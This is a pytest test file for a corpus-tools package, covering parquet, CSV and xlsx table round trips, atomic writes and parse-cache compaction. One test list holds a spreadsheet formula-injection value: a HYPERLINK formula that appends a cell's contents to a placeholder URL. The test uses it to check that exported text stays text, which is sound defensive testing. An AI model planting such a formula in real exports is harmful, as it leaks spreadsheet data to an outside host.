"""Atomic writes and table round trips."""

from __future__ import annotations

import pandas as pd
import pytest

from corpus_tools.files import atomic_path
from corpus_tools.store import read_table, write_table, write_tables


def test_parquet_round_trip_keeps_lists_and_dates(tmp_path, sample_corpus):
    write_tables(sample_corpus.tables, tmp_path)
    documents = read_table(tmp_path, "documents")
    assert documents["doc_id"].tolist() == sample_corpus.documents["doc_id"].tolist()
    assert list(documents["categories"].iloc[0]) == ["Témoignages"]
    assert pd.api.types.is_datetime64_any_dtype(documents["published"])


def test_csv_joins_lists_and_a_table_of_the_contract_gets_them_back(tmp_path, sample_corpus):
    table = pd.DataFrame({"doc_id": ["a"], "categories": [["Témoignages", "École"]]})
    write_table(table, tmp_path, "notes", fmt="csv")
    assert read_table(tmp_path, "notes")["categories"].tolist() == ["Témoignages | École"]
    write_table(sample_corpus.documents, tmp_path, "documents", fmt="csv")
    documents = read_table(tmp_path, "documents")
    assert list(documents["categories"]) == list(sample_corpus.documents["categories"])


def test_csv_opens_in_a_spreadsheet_with_its_accents(tmp_path):
    from corpus_tools.store import TableWriter

    writer = TableWriter(tmp_path, "notes", fmt="csv")
    for part in (["Témoignages"], ["École", "Réseaux"]):  # written in parts
        writer.write(pd.DataFrame({"categories": part}))
    writer.commit()
    data = (tmp_path / "notes.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf") and data.count(b"\xef\xbb\xbf") == 1
    assert read_table(tmp_path, "notes")["categories"].tolist() == [
        "Témoignages", "École", "Réseaux"]


def test_interrupted_write_keeps_the_previous_file(tmp_path):
    target = tmp_path / "notes.parquet"
    write_table(pd.DataFrame({"doc_id": ["old"]}), tmp_path, "notes")
    with pytest.raises(RuntimeError), atomic_path(target) as temporary:
        temporary.write_bytes(b"half a file")
        raise RuntimeError("interrupted")
    assert read_table(tmp_path, "notes")["doc_id"].tolist() == ["old"]
    assert [p.name for p in tmp_path.iterdir()] == ["notes.parquet"]


def test_missing_table_says_what_to_do(tmp_path):
    with pytest.raises(FileNotFoundError, match="corpus-tools run"):
        read_table(tmp_path, "entities")


def test_unknown_format_is_refused(tmp_path):
    with pytest.raises(ValueError, match="parquet, csv, xlsx"):
        write_table(pd.DataFrame(), tmp_path, "notes", fmt="ods")


# what a page may hold, and a spreadsheet would run as a formula if it were not a text cell
FORMULA_LIKE = ['=HYPERLINK("http://exemple.invalid/?d="&A1;"clic")', "=1+1", "@marie",
                "+33 6 12 34 56 78", "-", "- une liste"]


def test_xlsx_texts_stay_texts_and_values_keep_their_types(tmp_path):
    from openpyxl import load_workbook

    table = pd.DataFrame({
        "text": [*FORMULA_LIKE, "Témoignage\u202f: l’équipe\x0bsaut de page"],
        "count": range(7),
        "published": pd.to_datetime(["2014-03-01"] * 6 + [None]),
        "categories": [["Témoignages", "École"]] + [[]] * 6,
    })
    write_table(table, tmp_path, "notes", fmt="xlsx")
    sheet = load_workbook(tmp_path / "notes.xlsx")["notes"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    typed = [*FORMULA_LIKE, "Témoignage\u202f: l’équipe saut de page"]  # no control in XML
    assert [cell.value for cell in cells] == typed
    assert {cell.data_type for cell in cells} == {"s"}  # no formula among them
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:D8"
    back = read_table(tmp_path, "notes")
    assert back["text"].tolist() == typed
    assert back["count"].tolist() == list(range(7))
    assert back["published"].iloc[0] == pd.Timestamp("2014-03-01")
    assert back["published"].isna().iloc[-1]
    assert back["categories"].iloc[0] == "Témoignages | École"


def test_xlsx_table_longer_than_a_sheet_goes_on_in_the_next(tmp_path, monkeypatch):
    from openpyxl import load_workbook

    from corpus_tools.store import TableWriter

    monkeypatch.setattr("corpus_tools.store.XLSX_MAX_ROWS", 3)  # a header and two rows
    writer = TableWriter(tmp_path, "mots", fmt="xlsx")
    for part in (["a", "b", "c"], ["d", "e"]):
        writer.write(pd.DataFrame({"token": part}))
    writer.commit()
    assert load_workbook(tmp_path / "mots.xlsx").sheetnames == [
        "mots", "mots (2)", "mots (3)"]
    assert read_table(tmp_path, "mots")["token"].tolist() == ["a", "b", "c", "d", "e"]


def test_xlsx_cuts_a_text_longer_than_a_cell_and_says_so(tmp_path, monkeypatch, caplog):
    monkeypatch.setattr("corpus_tools.store.XLSX_MAX_CHARS", 5)
    write_table(pd.DataFrame({"text": ["court", "bien trop long"]}), tmp_path, "extraits",
                fmt="xlsx")
    assert read_table(tmp_path, "extraits")["text"].tolist() == ["court", "bien "]
    assert "extraits : 1 texte(s) coupé(s) à 5 caractères" in caplog.text


@pytest.mark.parametrize("old, new", [("parquet", "csv"), ("csv", "xlsx"), ("xlsx", "parquet")])
def test_a_table_written_in_another_format_replaces_the_earlier_one(tmp_path, old, new):
    write_table(pd.DataFrame({"doc_id": ["earlier"]}), tmp_path, "notes", fmt=old)
    write_table(pd.DataFrame({"doc_id": ["later"]}), tmp_path, "notes", fmt=new)
    assert [p.name for p in tmp_path.iterdir()] == [f"notes.{new}"]
    assert read_table(tmp_path, "notes")["doc_id"].tolist() == ["later"]


def test_parse_cache_compaction_keeps_live_texts_and_bounds_the_parts(tmp_path):
    from corpus_tools.cache import ParseCache

    cache = ParseCache(tmp_path, "fp")

    def tables(hashes):
        return {
            "tokens": pd.DataFrame({"text_hash": [h for h in hashes for _ in range(3)],
                                    "i": [i for _ in hashes for i in range(3)],
                                    "token": [f"{h}-{i}" for h in hashes for i in range(3)]}),
            "entities": pd.DataFrame({"text_hash": hashes[:1], "label": ["LOC"]}),
        }

    batches = [["a", "b"], ["c"], ["d", "e"], ["b", "f"], ["g"]]  # "b" twice, as after a crash
    for hashes in batches:
        cache.add(tables(hashes), hashes)
    live = {"a", "b", "d", "f", "g"}
    before = cache.read(["tokens", "entities"], live)
    assert not before["tokens"].duplicated().any()  # "b" comes from one part only

    deleted = cache.compact(live, max_parts=10)  # few parts: only dead ones go
    assert deleted == 1 and cache.known() == {"a", "b", "d", "e", "f", "g"}

    deleted = cache.compact(live, max_parts=2, part_texts=3)
    assert deleted == 4
    assert cache.known() == live and len(cache.parts()) == 2
    after = cache.read(["tokens", "entities"], live)
    for name in ("tokens", "entities"):
        assert not after[name].duplicated().any()
        pd.testing.assert_frame_equal(_sorted(after[name]), _sorted(before[name]), obj=name)


def _sorted(table):
    return table.astype({"text_hash": "str"}).sort_values(list(table.columns), ignore_index=True)


def test_parse_cache_is_rewritten_when_most_of_it_is_gone(tmp_path):
    from corpus_tools.cache import ParseCache

    cache = ParseCache(tmp_path, "fp")
    for hashes in (["a", "b", "c"], ["d", "e"]):
        cache.add({"tokens": pd.DataFrame({"text_hash": hashes, "i": range(len(hashes))})},
                  hashes)
    assert cache.compact({"a", "b", "d"}) == 0  # 2 texts gone, 3 live: left as is
    assert cache.compact({"a"}) == 2  # 4 gone, 1 live: rewritten
    assert cache.known() == {"a"} and len(cache.parts()) == 1
    assert cache.read(["tokens"], {"a"})["tokens"]["text_hash"].tolist() == ["a"]


def test_parse_cache_reads_each_part_once_and_sees_parts_other_processes_add(tmp_path,
                                                                          monkeypatch):
    from corpus_tools.cache import ParseCache

    def part(hashes):
        return {"tokens": pd.DataFrame({"text_hash": hashes, "i": range(len(hashes))})}

    cache, worker = ParseCache(tmp_path, "fp"), ParseCache(tmp_path, "fp")
    cache.add(part(["a", "b"]), ["a", "b"])
    read = []
    original = ParseCache._read_index
    monkeypatch.setattr(ParseCache, "_read_index",
                        lambda self, path: read.append(path.name) or original(self, path))
    assert cache.known() == {"a", "b"} and read == []  # its own part: known without reading
    worker.add(part(["b", "c"]), ["b", "c"])  # as a worker process would
    assert cache.known() == {"a", "b", "c"} and len(read) == 1
    assert cache.known() == {"a", "b", "c"} and len(read) == 1  # not read a second time
    cache.compact({"c"}, max_parts=0)
    assert cache.known() == {"c"} and len(cache.parts()) == 1
    assert cache.read(["tokens"], {"c"})["tokens"]["text_hash"].tolist() == ["c"]


def test_parquet_tables_keep_statistics_of_keys_and_numbers_not_of_words(tmp_path):
    import pyarrow.parquet as pq

    from corpus_tools.schema import TABLES
    from corpus_tools.store import TableWriter

    writer = TableWriter(tmp_path, "hashtags")
    for doc in ("t1", "t2"):  # two row groups, as two groups of texts
        writer.write(pd.DataFrame({"text_id": [doc], "doc_id": [doc], "kind": ["testimonial"],
                                   "start": [3], "end": [11], "surface": ["#TwittMOOC"],
                                   "tag": ["twittmooc"]})[TABLES["hashtags"].names])
    writer.commit()
    file = pq.ParquetFile(tmp_path / "hashtags.parquet")
    second = file.metadata.row_group(1)
    stats = {second.column(i).path_in_schema: second.column(i).statistics
             for i in range(second.num_columns)}
    assert stats["doc_id"].has_min_max and stats["doc_id"].min == "t2"
    assert stats["start"].has_min_max
    assert stats["surface"] is None or not stats["surface"].has_min_max
    found = pd.read_parquet(tmp_path / "hashtags.parquet", filters=[("doc_id", "==", "t2")])
    assert found["doc_id"].tolist() == ["t2"]
